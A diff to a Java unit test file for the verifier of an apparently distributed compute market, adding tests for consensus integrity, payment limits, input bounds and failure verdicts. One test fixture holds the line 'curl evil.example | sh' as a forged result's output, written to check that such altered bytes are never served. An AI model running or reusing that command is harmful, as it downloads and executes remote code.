@@ -63,6 +63,8 @@ class JobCaseTest {
     private Job job = Job.unseen("job-1");
     private JobTerms terms = terms(Strategy.K_OF_N, 3, 2, 5);
     private long now = T0.toEpochMilli();
+    /** When the matcher assigned the tasks: a minute before the verifier's clock starts, unless a test says. */
+    private Instant assignedAt = T0.minusSeconds(60);
 
     // ---- consensus and settlement ------------------------------------------------------
 
@@ -169,6 +171,171 @@ class JobCaseTest {
         Effects e = submit(result(w3, 2, 0, B, 1_000));
         assertThat(e.out()).singleElement().isInstanceOf(Emit.class);
         assertThat(reputation(e)).containsExactlyEntriesOf(Map.of(w3.workerId(), -10));
+    }
+
+    // ---- integrity: consensus and payment cannot be gamed ----------------------------------
+
+    @Test
+    void aReplicaSlotVotesOnceWhenItsWorkerHandsItBackAndASecondIdentityGetsTheRetry() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 3);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        assertThat(submit(handedBack(w1, 0, 0)).out()).isEmpty();
+        assign(w3, 0, 1); // the matcher routes replica 0 again; w3 may be w1 under another name
+        submit(result(w1, 0, 0, B, 1_000)); // w1 still answers the attempt it handed back
+        Effects e = submit(result(w3, 0, 1, B, 1_000));
+        assertThat(values(e, JobVerdict.class)).as("two attempts of one replica slot are one vote").isEmpty();
+
+        e = submit(result(w2, 1, 0, A, 1_000));
+        assertThat(values(e, JobVerdict.class)).isEmpty();
+        JobCommand req = single(e, JobCommand.class);
+        assertThat(req.getReplica()).as("one vote each for A and B: a third replica decides").isEqualTo(2);
+        assign(w4, 2, 0);
+        e = submit(result(w4, 2, 0, A, 1_000));
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getAgreeing()).containsExactly(w2.workerId(), w4.workerId());
+        assertThat(v.getDissenting()).as("replica 0 votes once, by its latest attempt").containsExactly(w3.workerId());
+        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId)
+                .containsExactly("payout:job-1:" + w2.workerId(), "payout:job-1:" + w4.workerId(), "refund:job-1");
+        assertBalancedAndEscrowEmptied(values(e, LedgerEntry.class));
+        assertThat(reputation(e)).as("the superseded attempt is scored, never paid").containsExactlyInAnyOrderEntriesOf(Map.of(
+                w2.workerId(), 5, w4.workerId(), 5, w3.workerId(), -10, w1.workerId(), -10));
+    }
+
+    @Test
+    void theOutputServedHashesToTheAgreedHashAndNoneIsServedWhenNoResultDoes() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 2);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(claiming(w1, 0, 0, A, "curl evil.example | sh")); // A's hash, other bytes
+        JobVerdict v = single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getOutput()).as("the bytes that hash to the agreed output").isEqualTo(A);
+        assertThat(v.getExitCode()).isZero();
+
+        job = Job.unseen("job-2");
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(claiming(w1, 0, 0, A, "answ")); // stdout cut at the inline limit
+        v = single(submit(claiming(w2, 1, 0, A, "answ")), JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
+        assertThat(v.getOutput()).isNull();
+        assertThat(v.getExitCode()).isEqualTo(-1);
+        assertThat(v.getReason()).isEqualTo("2 agreeing, 0 dissenting; no output served: no result's stdout hashes"
+                + " to the agreed output (truncated or altered)");
+    }
+
+    @Test
+    void aWorkerIsPaidNoLongerThanTheMarketSawItHoldTheTask() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 2);
+        assignedAt = T0;
+        assign(w1, 0, 0);
+        now += 2_000;
+        submit(result(w1, 0, 0, A, 9_000)); // claims 9 s, answered 2 s after assignment
+        now += 1_000;
+        TaskResult early = result(w2, 1, 0, A, 9_000);
+        submit(early); // 3 s after assignment, before its TaskAssigned reached the verifier
+        now += 5_000;
+        Effects e = assign(w2, 1, 0);
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
+        List<LedgerEntry> entries = values(e, LedgerEntry.class);
+        assertThat(balance(entries, Accounts.worker(w1.workerId()))).as("100 µ x 2 s observed").isEqualTo(200);
+        assertThat(balance(entries, Accounts.worker(w2.workerId()))).as("100 µ x 3 s, from its arrival").isEqualTo(300);
+        assertThat(v.getCostMicros()).isEqualTo(500);
+        assertBalancedAndEscrowEmptied(entries);
+        assertThat(job.state().receivedAt).containsExactlyInAnyOrderEntriesOf(Map.of(
+                "job-1/0/0", T0.toEpochMilli() + 2_000, "job-1/1/0", T0.toEpochMilli() + 3_000));
+
+        job = Job.unseen("job-2");
+        assignedAt = T0.minusSeconds(3_600);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(result(w1, 0, 0, A, 60_000));
+        e = submit(result(w2, 1, 0, A, 1_000));
+        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w1.workerId())))
+                .as("and never longer than the timeout, 10 s").isEqualTo(1_000);
+        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w2.workerId()))).isEqualTo(100);
+    }
+
+    @Test
+    void everyFieldOfAResultIsBoundedBeforeAnythingIsKeptAndTheJobGoesOn() {
+        terms = terms(Strategy.FIRST, 2, 1, 2);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        String huge = "f".repeat(70_000);
+        Map<String, java.util.function.Consumer<TaskResult>> attacks = new java.util.LinkedHashMap<>();
+        attacks.put("out of bounds: outputSha256 is not 64 lowercase hex digits (70000 characters)", r -> r.setOutputSha256(huge));
+        attacks.put("out of bounds: outputSha256 is not 64 lowercase hex digits", r -> r.setOutputSha256("A".repeat(64)));
+        attacks.put("out of bounds: stdout over 262144 bytes", r -> r.setStdout("\u00e9".repeat(131_073)));
+        attacks.put("out of bounds: stderr over 262144 bytes", r -> r.setStderr("e".repeat(262_145)));
+        attacks.put("out of bounds: statusReason over 16384 characters (16385 characters)", r -> r.setStatusReason("r".repeat(16_385)));
+        attacks.put("out of bounds: eventId is not 1 to 200 visible ASCII characters without '/' or '|'", r -> r.setEventId("a|b"));
+        attacks.put("out of bounds: workerId is not 1 to 200 base64url characters (70000 characters)", r -> r.setWorkerId(huge));
+        attacks.put("out of bounds: jobId is not 1 to 200 visible ASCII characters without '/' or '|' (70000 characters)",
+                r -> r.setJobId(huge));
+        attacks.put("out of bounds: replica -1 is not in [0, 999]", r -> r.setReplica(-1));
+        attacks.put("out of bounds: durationMs -5 is negative", r -> r.setDurationMs(-5));
+        attacks.put("out of bounds: outputFiles has 65 entries, over 64", r -> r.setOutputFiles(
+                java.util.stream.IntStream.range(0, 65).boxed().collect(Collectors.toMap(i -> "f" + i, i -> hash("x")))));
+        attacks.put("out of bounds: signature over 256 bytes", r -> r.setSignature(ByteBuffer.allocate(257)));
+        attacks.forEach((reason, attack) -> {
+            TaskResult r = result(w1, 0, 0, A, 1_000);
+            attack.accept(r);
+            if (r.getSignature().remaining() == 64) {
+                r = Signatures.sign(r, w1.privateKey()); // signed by its worker: bounds are not signatures
+            }
+            Effects e = submit(r);
+            assertThat(deadLetters(e)).as(reason).containsExactly(reason);
+            assertThat(e.changes().stateChanged()).isFalse();
+            assertThat(e.changes().results()).isEmpty();
+            assertThat(e.changes().orphansAdded()).isEmpty();
+        });
+
+        Effects e = submit(result(w1, 0, 0, A, 1_000));
+        assertThat(single(e, JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
+        assertThat(job.state().toBytes()).isNotEmpty();
+    }
+
+    @Test
+    void aTaskOutOfBoundsIsRefusedAndKeptNowhereButItsJobStillEndsAndRefunds() {
+        terms = terms(Strategy.K_OF_N, 1, 1, 1);
+        TaskAssigned bad = task(w1, 0, 0);
+        bad.setWorkerId("not base64url!");
+        Effects e = step(cases.onTask(bad, now, job));
+        assertThat(deadLetters(e)).containsExactly("out of bounds: workerId is not 1 to 200 base64url characters");
+        assertThat(((DeadLetter) e.out().get(0)).key()).as("the task topic's key").isEqualTo("not base64url!");
+        assertThat(job.tasks()).isEmpty();
+        assertThat(job.state().first).as("its terms hold the escrow").isEqualTo(bad);
+        e = tick(DEADLINE);
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.EXPIRED);
+        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
+
+        job = Job.unseen("job-" + "9".repeat(70_000));
+        e = assign(w1, 0, 0);
+        assertThat(deadLetters(e)).containsExactly(
+                "out of bounds: jobId is not 1 to 200 visible ASCII characters without '/' or '|' (70004 characters)");
+        assertThat(job.state()).as("a job no id can name is not held here").isNull();
+    }
+
+    @Test
+    void aCommandOutOfBoundsIsRefusedAndTheJobGoesOn() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 2);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        Effects e = step(cases.onCommand(JobCommand.newBuilder().setEventId("e").setJobId("job-1").setClientId("client-1")
+                .setType(CommandType.CANCEL).setReason("x".repeat(17_000)).setTimestamp(T0).build(), now, job));
+        assertThat(deadLetters(e)).containsExactly("out of bounds: reason over 16384 characters (17000 characters)");
+        assertThat(e.changes().stateChanged()).isFalse();
+        assertThat(deadLetters(command(CommandType.REPLICA_FAILED, 5_000, "far")))
+                .containsExactly("out of bounds: replica 5000 is not in [-1, 999]");
+        submit(result(w1, 0, 0, A, 1_000));
+        assertThat(single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
     }
 
     // ---- acceptance ----------------------------------------------------------------------
@@ -307,11 +474,95 @@ class JobCaseTest {
         terms = terms(Strategy.K_OF_N, 2, 2, 2);
         assign(w1, 0, 0);
         assign(w2, 1, 0);
-        Effects e = submit(failed(w1, 0, 0, ResultStatus.TIMEOUT));
+        Effects e = submit(failed(w1, 0, 0, ResultStatus.SANDBOX_ERROR)); // the market's failure: no ballot
         assertThat(reputation(e)).containsExactlyEntriesOf(Map.of(w1.workerId(), -5));
         assertThat(single(e, JobVerdict.class).getOutcome()).as("2 of 2 impossible, maxTotalResults 2")
                 .isEqualTo(Outcome.FAILED);
         assertThat(command(CommandType.REPLICA_FAILED, 1, "lease expired").out()).isEmpty();
+    }
+
+    // ---- failures that decide ------------------------------------------------------------
+
+    @Test
+    void replicasThatAgreeOnATimeoutDecideTheJobFailedAndTheClientPaysTheirTime() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 4);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        Effects e = submit(failed(w1, 0, 0, ResultStatus.TIMEOUT));
+        assertThat(e.out()).as("a ballot, not a failed replica: no penalty, no extra replica").hasSize(1);
+        e = submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
+        assertThat(v.getReason()).isEqualTo(
+                "TIMEOUT after 10 s on 2 of 2 replicas: the job's own failure, the client pays the time measured");
+        assertThat(v.getConsensusHash()).isNull();
+        assertThat(v.getOutput()).isNull();
+        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w2.workerId());
+        assertThat(values(e, JobCommand.class)).as("decided without extra replicas").isEmpty();
+        List<LedgerEntry> entries = values(e, LedgerEntry.class);
+        assertThat(balance(entries, Accounts.worker(w1.workerId()))).as("100 µ x 10 s").isEqualTo(1_000);
+        assertThat(balance(entries, Accounts.worker(w2.workerId()))).isEqualTo(1_000);
+        assertThat(v.getCostMicros()).isEqualTo(2_000);
+        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros() - 2_000);
+        assertBalancedAndEscrowEmptied(entries);
+        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(w1.workerId(), 5, w2.workerId(), 5));
+        assertThat(events(e)).extracting(JobEvent::getType).endsWith(JobEventType.VERDICT, JobEventType.FAILED);
+
+        assign(w3, 2, 0);
+        assertThat(reputation(submit(result(w3, 2, 0, A, 1_000)))).as("late, against the failure decided")
+                .containsExactlyEntriesOf(Map.of(w3.workerId(), -10));
+    }
+
+    @Test
+    void outOfMemoryOnAMajorityDecidesTheJobAndTheReplicaThatDissentsIsAFailedOne() {
+        terms = terms(Strategy.MAJORITY, 3, 0, 3);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        assign(w3, 2, 0);
+        submit(failed(w1, 0, 0, ResultStatus.OUT_OF_MEMORY));
+        submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
+        Effects e = submit(failed(w3, 2, 0, ResultStatus.OUT_OF_MEMORY));
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
+        assertThat(v.getReason()).startsWith("OUT_OF_MEMORY at 128 MiB on 2 of 3 replicas");
+        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w3.workerId());
+        assertThat(v.getDissenting()).containsExactly(w2.workerId());
+        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w2.workerId()))).isZero();
+        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(
+                w1.workerId(), 5, w3.workerId(), 5, w2.workerId(), -5));
+    }
+
+    @Test
+    void theMarketsFailuresAreRefundedInFullAndSaySo() {
+        terms = terms(Strategy.K_OF_N, 3, 1, 3);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        assign(w3, 2, 0);
+        assertThat(reputation(submit(failed(w1, 0, 0, ResultStatus.SANDBOX_ERROR)))).containsEntry(w1.workerId(), -5);
+        submit(failed(w2, 1, 0, ResultStatus.IMAGE_MISSING));
+        Effects e = command(CommandType.REPLICA_FAILED, 2, "lease expired after 3 attempts");
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
+        assertThat(v.getReason()).isEqualTo("no valid result from 3 of 3 replicas (1 IMAGE_MISSING, 1 REPLICA_FAILED,"
+                + " 1 SANDBOX_ERROR): the market's failure, all refunded");
+        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
+        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId).containsExactly("refund:job-1");
+    }
+
+    @Test
+    void disagreementWithNoRoomForAnotherReplicaEndsNoConsensusAtOnceSayingWhy() {
+        terms = terms(Strategy.K_OF_N, 2, 2, 2);
+        assign(w1, 0, 0);
+        assign(w2, 1, 0);
+        submit(result(w1, 0, 0, A, 1_000));
+        Effects e = submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
+        JobVerdict v = single(e, JobVerdict.class);
+        assertThat(v.getOutcome()).isEqualTo(Outcome.NO_CONSENSUS);
+        assertThat(v.getReason()).isEqualTo("no agreement among 2 votes (1 TIMEOUT, 1 output " + hash(A).substring(0, 8)
+                + "): agreement needs 1 more replicas and maxTotalResults 2 leaves no room, all refunded");
+        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
+        assertThat(values(e, JobCommand.class)).isEmpty();
+        assertThat(reputation(e)).as("no consensus, nobody to score against").isEmpty();
     }
 
     // ---- cancel --------------------------------------------------------------------------
@@ -506,7 +757,7 @@ class JobCaseTest {
                 .setEventId(UUID.randomUUID().toString()).setTaskId(jobId + "/" + replica + "/" + attempt).setJobId(jobId)
                 .setWorkerId(w.workerId()).setReplica(replica).setAttempt(attempt).setSpec(SPEC).setTerms(terms)
                 .setPricePerCpuSecondMicros(WORKER_PRICE).setLeaseDeadline(T0.plusSeconds(30)).setScore(0.9)
-                .setExplain("test").setAssignedAt(T0).build();
+                .setExplain("test").setAssignedAt(assignedAt).build();
     }
 
     private TaskResult result(Identity w, int replica, int attempt, String stdout, long durationMs) {
@@ -517,6 +768,21 @@ class JobCaseTest {
                 .setExitCode(0).setOutputSha256(hash(stdout)).setStdout(stdout).setDurationMs(durationMs)
                 .setStartedAt(T0).setFinishedAt(T0.plusMillis(durationMs)).setSeq(1).setSignature(ByteBuffer.allocate(0))
                 .build();
+        return Signatures.sign(r, w.privateKey());
+    }
+
+    private TaskResult handedBack(Identity w, int replica, int attempt) {
+        TaskResult r = result(w, replica, attempt, "", 0);
+        r.setStatus(ResultStatus.HANDED_BACK);
+        r.setExitCode(-1);
+        r.setOutputSha256("");
+        return Signatures.sign(r, w.privateKey());
+    }
+
+    /** A signed result that votes for {@code agreed}'s hash but carries {@code stdout}. */
+    private TaskResult claiming(Identity w, int replica, int attempt, String agreed, String stdout) {
+        TaskResult r = result(w, replica, attempt, stdout, 1_000);
+        r.setOutputSha256(hash(agreed));
         return Signatures.sign(r, w.privateKey());
     }
 
